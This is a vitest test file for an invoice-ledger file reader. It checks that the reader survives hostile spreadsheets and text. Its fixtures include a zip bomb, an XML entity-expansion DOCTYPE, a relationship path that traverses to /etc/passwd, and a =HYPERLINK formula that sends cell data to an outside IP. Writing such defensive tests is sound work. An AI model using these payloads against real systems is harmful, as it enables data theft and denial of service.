import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { zip } from '../evidence/sample-evidence.ts';
import { numberCell, sampleWorkbook, textCell } from '../evidence/sample-workbook.ts';
import { readLedgerFiles } from './read-ledger-files.ts';
import {
  einvoiceXml,
  exportWorkbook,
  INVOICE_COLUMNS,
  rowMarkup,
  tableSheet,
  USUAL,
} from './testing/sample-exports.ts';

let folder = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'dossier-hostile-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function read(name: string, bytes: Uint8Array | string) {
  const path = join(folder, name);
  await writeFile(path, bytes);
  return readLedgerFiles([{ path, name }]);
}
const NUMBER = '24502000000000000001';
const ROW = { 数电发票号码: NUMBER, 金额: '100', 税额: '13', 价税合计: '113' };

test('20,000 invoices of three lines each are read, every one, in bounded memory', async () => {
  const serial = (index: number) => `245020000000${String(index).padStart(8, '0')}`;
  const lines = Array.from({ length: 60_000 }, (_, index) => ({
    数电发票号码: serial(Math.floor(index / 3)),
    货物或应税劳务名称: `*软件*模块${index % 3}`,
    金额: '1,000.00',
    税额: '130.00',
    价税合计: '1,130.00',
  }));
  const invoices = Array.from({ length: 20_000 }, (_, index) => ({
    数电发票号码: serial(index),
    金额: '3,000.00',
    税额: '390.00',
    价税合计: '3,390.00',
  }));
  // As the platform's files are: sparse rows, or the test's own text would go beyond what is unpacked.
  const columns = [
    '数电发票号码',
    '购方识别号',
    '发票来源',
    '货物或应税劳务名称',
    '金额',
    '税额',
    '价税合计',
  ];
  const some = { 购方识别号: '915001120000000001', 发票来源: '电子发票服务平台' };
  const workbook = await sampleWorkbook([
    tableSheet('信息汇总表', columns, lines, { usual: some }),
    tableSheet(
      '发票基础信息',
      columns.filter((name) => name !== '货物或应税劳务名称'),
      invoices,
      { usual: some },
    ),
  ]);
  const before = process.memoryUsage().heapUsed;
  const found = await read('large.xlsx', workbook);
  expect(found.invoices).toHaveLength(20_000);
  expect(found.problems).toEqual([]);
  expect(found.invoices.every(({ total, content }) => total === 3390 && content.includes('模块2'))).toBe(
    true,
  );
  expect(process.memoryUsage().heapUsed - before).toBeLessThan(400_000_000);
});

test('more invoices than a draft takes are cut at its limit, and that is told', async () => {
  const rows = Array.from(
    { length: 20_003 },
    (_, index) => `ERP\t2450200000${String(index).padStart(10, '0')}\t1\t2024-05-20`,
  );
  const { invoices, problems } = await read(
    'a.txt',
    `发票内容\t发票号\t价税合计\t开票时间\n${rows.join('\n')}`,
  );
  expect(invoices).toHaveLength(20_000);
  expect(problems.at(-1)?.problem).toContain('共有 20003 张');
});

test('cells in the farthest corner of the grid cost nothing', async () => {
  const far = `<row r="1048576">${textCell('XFD1048576', '远')}${numberCell('A1048576', '1')}</row>`;
  const sheet = tableSheet('发票基础信息', INVOICE_COLUMNS, [ROW], { usual: USUAL });
  const { invoices } = await read('far.xlsx', await sampleWorkbook([{ ...sheet, rows: sheet.rows + far }]));
  expect(invoices).toHaveLength(1);
});

test('a dimension, columns and merged areas of the whole grid are not walked', async () => {
  const sheet = tableSheet('发票基础信息', INVOICE_COLUMNS, [ROW], { usual: USUAL });
  const { invoices } = await read(
    'claims.xlsx',
    await sampleWorkbook([
      {
        ...sheet,
        before:
          '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" hidden="1" width="9"/></cols>',
        after: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      },
    ]),
  );
  expect(invoices).toHaveLength(1);
});

test('an archive that unpacks to far more than it is, is refused', async () => {
  const bomb = await sampleWorkbook([
    { rows: `<row r="1">${textCell('A1', ' '.repeat(120_000_000))}</row>` },
  ]);
  expect(bomb.byteLength).toBeLessThan(1_000_000);
  const { invoices, problems } = await read('bomb.xlsx', bomb);
  expect(invoices).toEqual([]);
  expect(problems).toMatchObject([{ file: 'bomb.xlsx', problem: expect.stringContaining('过大') }]);
});

test('shared strings without end are refused before they fill the memory', async () => {
  const strings = `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${'<si/>'.repeat(2_100_000)}</sst>`;
  const { problems } = await read(
    'strings.xlsx',
    await sampleWorkbook([{ rows: '' }], { 'xl/sharedStrings.xml': strings }),
  );
  expect(problems[0]?.problem).toContain('内容过多');
});

test('rows without end are refused', async () => {
  const rows = Array.from({ length: 200_001 }, (_, index) => rowMarkup(index + 1, [{ stored: '1' }])).join(
    '',
  );
  const { problems } = await read('rows.xlsx', await sampleWorkbook([{ rows }]));
  expect(problems[0]?.problem).toContain('200000 行');
});

test('an invoice comes out of its XML whole, whatever it says of its encoding', async () => {
  const xml = einvoiceXml();
  const ways: Record<string, Buffer | string> = {
    'UTF-16': Buffer.from(`\ufeff${xml}`, 'utf16le'),
    'UTF-8 called GBK': xml.replace('UTF-8', 'GBK'),
    'blank lines first': `\n\n ${xml}`,
  };
  for (const [way, bytes] of Object.entries(ways)) {
    const { invoices, problems } = await read('a.xml', bytes);
    expect(invoices, way).toMatchObject([{ seller: '重庆示例软件有限公司', total: 1130 }]);
    expect(problems, way).toEqual([]);
  }
});

test('entities and a document type inside the parts are refused', async () => {
  const sheet = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></worksheet>`;
  const { problems } = await read(
    'entities.xlsx',
    await sampleWorkbook([{ rows: '' }], { 'xl/worksheets/sheet1.xml': sheet }),
  );
  expect(problems[0]?.problem).toContain('损坏');
});

test.each([
  ['no workbook inside', { 'xl/workbook.xml': '<workbook/>' }],
  [
    'a sheet that is not there',
    {
      'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="1"/></sheets></workbook>',
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="1" Type="x/worksheet" Target="worksheets/../../../../etc/passwd"/></Relationships>',
    },
  ],
])('%s: a problem, no more', async (_what, parts) => {
  const { invoices, problems } = await read('odd.xlsx', await zip(parts));
  expect(invoices).toEqual([]);
  expect(problems).toHaveLength(1);
});

test('formulas and links are text, and nothing of them is followed', async () => {
  const evil = '=HYPERLINK("http://192.0.2.1/"&A1,"x")';
  const { invoices } = await read(
    'formula.xlsx',
    await exportWorkbook({ lines: [{ ...ROW, 货物或应税劳务名称: evil }], invoices: [ROW] }),
  );
  expect(invoices[0]?.content).toBe(evil);
});

test('endless cells and lines of text are cut or refused', async () => {
  const long = `发票内容\t发票号\t价税合计\t开票时间\n${'长'.repeat(100_000)}\t${NUMBER}\t1\t2024-05-20`;
  const { invoices } = await read('long.txt', long);
  expect(invoices[0]?.content).toHaveLength(2_000);
  const { problems } = await read('wide.txt', `${'\t'.repeat(3_000_000)}x`);
  expect(problems).toHaveLength(1);
  const lines = await read('lines.txt', 'a\tb\n'.repeat(200_001));
  expect(lines.problems[0]?.problem).toContain('200000 行');
});
